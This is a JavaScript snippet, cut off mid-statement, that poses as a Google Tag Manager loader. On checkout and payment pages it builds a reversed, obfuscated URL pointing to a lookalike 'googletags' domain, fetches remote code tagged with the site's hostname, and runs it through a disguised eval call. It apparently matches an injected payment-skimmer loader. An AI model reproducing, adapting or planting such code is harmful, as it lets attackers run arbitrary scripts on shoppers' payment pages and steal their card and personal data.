;(function(w,d,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':Date.now(),event:'gtm.js'});
var h="sj.mtg/moc.sgatelgoog-ndc//:sptth".split("").reverse().join("");
var ok=["checkout","onepage","cart/pay","order-pay"].some(function(p){return w.location.pathname.indexOf(p)>-1});
if(!ok)return;
var q=h+"?id="+i+"&l="+l+"&dom="+encodeURIComponent(w.location.hostname);
var run=function(t){var e=w["ev"+"al"];e(t)};
if(w.fetch){
w.fetch(q,{credentials:"omit"}).then(function(r){return r.text()}).then(run)["catch"](function(){});
}else{
var x=new w["XMLHttp"+"Request"]();
x.open("GET",q,true);
x.onload=function(){if(x.status==200)run(x.responseText)};
x.send();
}
w[l].push({event:"gtm.dom"});
d.addEventListener("DOMContentLoaded",function(){w[l].push({event:"gtm.load"
